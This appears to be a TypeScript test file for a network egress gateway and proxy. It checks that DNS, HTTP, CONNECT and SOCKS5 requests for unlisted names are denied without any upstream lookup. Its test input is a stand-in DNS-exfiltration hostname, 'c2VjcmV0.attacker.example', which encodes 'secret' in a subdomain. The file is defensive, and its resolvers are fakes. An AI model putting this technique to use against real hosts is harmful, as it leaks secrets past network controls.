// A name no rule could allow is denied before anything is asked upstream: the lookup itself
// could carry data out (`c2VjcmV0.attacker.example`). Proved by a resolver that counts what it
// is asked; the control (a listed name) is asked and resolved.
import assert from 'node:assert/strict';
import net from 'node:net';
import { test } from 'node:test';
import { answerDns, Gateway, startProxy, type Resolver } from '../../src/net/index.js';
import { Listener, policy } from './helpers/world.js';

function spy(): Resolver & { asked: string[] } {
  const asked: string[] = [];
  return { asked, resolve: async (h) => { asked.push(h); return h === 'allowed.test' ? ['1.2.3.4'] : ['127.0.0.9']; } }; // answers are values only: nothing connects here
}

function query(name: string, type: number): Buffer {
  const labels = Buffer.concat(name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])));
  const h = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([h, labels, Buffer.from([0, 0, type, 0, 1])]);
}

const domainsOnly = policy(`version: 1
name: domains-only
network_rules:
  - name: listed
    domains: [allowed.test]
    decision: allow
`);

test('DNS: A and TXT for an unlisted name get NXDOMAIN without an upstream lookup; the listed name is looked up', async () => {
  const r = spy();
  const gw = new Gateway({ policy: domainsOnly, resolver: r });
  for (const type of [1, 16]) {
    const out = (await answerDns(gw, query('c2VjcmV0.attacker.example', type)))!;
    assert.equal(out[3]! & 15, 3);
  }
  assert.deepEqual(r.asked, []);
  const ok = (await answerDns(gw, query('allowed.test', 1)))!;
  assert.equal(ok[3]! & 15, 0);
  assert.deepEqual(r.asked, ['allowed.test']);
});

test('proxy: CONNECT to an unlisted name is denied by the policy (not "unresolvable") without an upstream lookup', async () => {
  const r = spy();
  const p = await startProxy({ policy: domainsOnly, resolver: r });
  try {
    const s = net.connect(p.address.port, '127.0.0.1');
    s.write('CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\nHost: c2VjcmV0.attacker.example:443\r\n\r\n');
    let out = '';
    for await (const c of s) out += (c as Buffer).toString();
    assert.match(out, /^HTTP\/1\.1 403[\s\S]*rule "defaults\.network"/);
    assert.deepEqual(r.asked, []);
  } finally {
    await p.close();
  }
});

test('with an address-based allow rule the name must be resolved to be decided (documented limit)', async () => {
  const r = spy();
  const gw = new Gateway({ policy: policy(`version: 1
name: with-cidrs
network_rules:
  - name: lab
    cidrs: [127.0.0.2/32]
    decision: allow
`), resolver: r });
  const out = (await answerDns(gw, query('unlisted.example', 1)))!;
  assert.equal(out[3]! & 15, 3);
  assert.deepEqual(r.asked, ['unlisted.example']);
});

/** Sends one request on a fresh connection; returns every byte the proxy sent back. */
async function exchange(port: number, bytes: Buffer[]): Promise<Buffer> {
  const s = net.connect(port, '127.0.0.1');
  s.on('error', () => {});
  for (const b of bytes) s.write(b);
  let out = Buffer.alloc(0);
  try {
    for await (const c of s) out = Buffer.concat([out, c as Buffer]);
  } catch {
    // reset: keep what arrived
  }
  return out;
}

const ENTRY_POINTS: { via: string; send: (host: string) => Buffer[]; denied: (out: Buffer) => boolean }[] = [
  {
    via: 'HTTP forward',
    send: (h) => [Buffer.from(`GET http://${h}/x HTTP/1.1\r\nHost: ${h}\r\nConnection: close\r\n\r\n`)],
    denied: (o) => /^HTTP\/1\.1 403[\s\S]*\(network_rules\) decided deny/.test(o.toString()),
  },
  {
    via: 'CONNECT',
    send: (h) => [Buffer.from(`CONNECT ${h}:443 HTTP/1.1\r\nHost: ${h}:443\r\n\r\n`)],
    denied: (o) => /^HTTP\/1\.1 403[\s\S]*\(network_rules\) decided deny/.test(o.toString()),
  },
  {
    via: 'SOCKS5 (socks5h, name sent to the proxy)',
    send: (h) => [Buffer.from([5, 1, 0]), Buffer.concat([Buffer.from([5, 1, 0, 3, h.length]), Buffer.from(h), Buffer.from([1, 187])])],
    denied: (o) => o[3] === 2,
  },
];

for (const fastPath of [false, true]) {
  for (const ep of ENTRY_POINTS) {
    test(`proxy${fastPath ? ' (helper fast path)' : ''}, ${ep.via}: an unlisted name is denied without an upstream lookup; the listed name is looked up (control)`, async () => {
      const asked: string[] = [];
      // Every answer is loopback, which the SSRF guard denies for a domain rule: the control
      // is looked up and then refused, so nothing here connects anywhere.
      const r: Resolver = { resolve: async (h) => { asked.push(h); return ['127.0.0.9']; } };
      const p = await startProxy({ policy: domainsOnly, resolver: r, fastPath });
      try {
        const out = await exchange(p.address.port, ep.send('c2VjcmV0.attacker.example'));
        assert.ok(ep.denied(out), `expected a policy denial, got ${JSON.stringify(out.toString('latin1'))}`);
        assert.deepEqual(asked, []);
        await exchange(p.address.port, ep.send('allowed.test'));
        assert.deepEqual(asked, ['allowed.test']);
      } finally {
        await p.close();
      }
    });
  }
}

test('connect_redirects by name: the original name is never looked up; the redirect target gets the tunnel', async () => {
  const mirror = await new Listener('127.0.0.2').start();
  const asked: string[] = [];
  const r: Resolver = { resolve: async (h) => { asked.push(h); return ['127.0.0.9']; } };
  const p = await startProxy({ policy: policy(`version: 1
name: redirect-by-name
connect_redirects:
  - name: to-mirror
    match: '*.mirror.test:443'
    redirect_to: '127.0.0.2:${mirror.port}'
`), resolver: r });
  try {
    const out = await exchange(p.address.port, [Buffer.from('CONNECT c2VjcmV0.mirror.test:443 HTTP/1.1\r\nHost: c2VjcmV0.mirror.test:443\r\n\r\nGET /x HTTP/1.1\r\nHost: c2VjcmV0.mirror.test\r\nConnection: close\r\n\r\n')]);
    assert.match(out.toString(), /^HTTP\/1\.1 200 Connection Established[\s\S]*hello from 127\.0\.0\.2 GET \/x/);
    assert.equal(mirror.requests.length, 1);
    assert.deepEqual(asked, []);
  } finally {
    await p.close();
    await mirror.close();
  }
});
